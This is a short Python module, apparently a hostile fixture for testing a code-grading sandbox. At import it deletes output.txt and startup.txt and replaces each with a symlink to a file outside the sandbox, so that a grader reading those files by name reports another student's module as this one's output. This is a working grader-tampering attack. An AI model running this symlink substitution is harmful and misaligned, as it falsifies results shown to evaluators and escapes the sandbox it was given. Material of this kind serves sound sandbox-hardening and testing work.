"""At import, output.txt becomes a link to a file outside the sandbox (a classmate's
module): a grader that reads it by name shows it as this module's output."""

import os as _os

CLASSMATE = "/tmp/embed-grader-hostile-classmate-987.654321.py"

for _name in ("output.txt", "startup.txt"):
    try:
        _os.unlink(_name)
    except OSError:
        pass
    _os.symlink(CLASSMATE, _name)
